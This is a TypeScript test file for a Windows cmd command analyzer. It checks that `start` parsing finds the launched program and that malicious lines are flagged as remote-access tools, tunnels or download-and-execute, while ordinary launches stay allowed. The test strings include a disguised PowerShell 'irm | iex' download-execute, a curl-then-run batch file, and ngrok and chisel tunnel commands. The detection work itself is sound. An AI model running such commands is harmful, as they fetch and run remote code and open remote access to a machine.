/**
 * cmd's `start ["title"] [/d dir] [/min …] program [args]`: the window title and start's own options come before the
 * program. Every reader of `start` (launch rules, files run, command lines carried) finds the same program.
 */
import { describe, expect, it } from 'vitest';
import type { Word } from '../analysis/document';
import { cmdStartProgramIndex } from '../analysis/names';
import { decisionOf as decision, evaluateLine } from './family-test-support';

const codes = (text: string) => evaluateLine(text, 'cmd').reasons.map((r) => r.code);
const word = (value: string, quoted = false): Word => ({ value, lower: value.toLowerCase(), span: { start: 0, end: 0 }, quoted });

describe('cmdStartProgramIndex', () => {
  it('skips the title, the options and the values of /d, /node and /affinity', () => {
    const words = [
      word('start'),
      word('Title', true),
      word('/MIN'),
      word('/D'),
      word('C:\\dir'),
      word('/node'),
      word('1'),
      word('app.exe'),
    ];
    expect(cmdStartProgramIndex(words, 1)).toBe(7);
  });

  it('takes a quoted program after an empty title, and only the first quoted word as the title', () => {
    expect(cmdStartProgramIndex([word('start'), word('', true), word('C:\\Program Files\\a.exe', true)], 1)).toBe(2);
    expect(cmdStartProgramIndex([word('start'), word('/min'), word('T', true), word('prog')], 1)).toBe(3);
  });

  it('finds no program when start only names a window', () => {
    expect(cmdStartProgramIndex([word('start'), word('Title', true)], 1)).toBe(-1);
    expect(cmdStartProgramIndex([word('start'), word('/d')], 1)).toBe(-1);
  });
});

describe('a program started after a title or a start directory', () => {
  it('a remote-access tool started from a directory', () => {
    expect(codes('start /d C:\\Users\\Public anydesk.exe')).toContain('rmm_tool');
    expect(codes('start "svc" /min /d "%ProgramData%\\sc" ScreenConnect.ClientService.exe')).toContain('rmm_tool');
  });

  it('a tunnel started in a titled window', () => {
    expect(codes('start "x" /d C:\\Users\\Public ngrok tcp 3389')).toContain('tunnel');
    expect(codes('start "updater" /b /node 0 chisel client 203.0.113.9:443 R:socks')).toContain('tunnel');
  });

  it('a command line carried by a titled start with a directory', () => {
    const text = 'start "Windows Update" /d %TEMP% /min powershell -nop -c "irm http://198.51.100.7/a | iex"';
    expect(decision(text, 'cmd')).toBe('block');
    expect(codes(text)).toContain('download_execute');
  });

  it('a downloaded script started in a titled window from its folder', () => {
    const text = 'curl -o %TEMP%\\u.bat http://198.51.100.7/u.bat && start "u" /d %TEMP% /min %TEMP%\\u.bat';
    expect(codes(text)).toContain('download_execute');
  });
});

describe('ordinary starts stay allowed', () => {
  it.each([
    'start "" notepad.exe C:\\Reports\\today.txt',
    'start "Report" /d C:\\Reports /max excel.exe monthly.xlsx',
    'start "" "C:\\Program Files\\Mozilla Firefox\\firefox.exe" https://intranet.example.com/',
    'start /wait /d C:\\Tools "" robocopy C:\\Data \\\\backup01\\data /MIR',
  ])('%s', (text) => {
    expect(decision(text, 'cmd')).toBe('allow');
  });
});
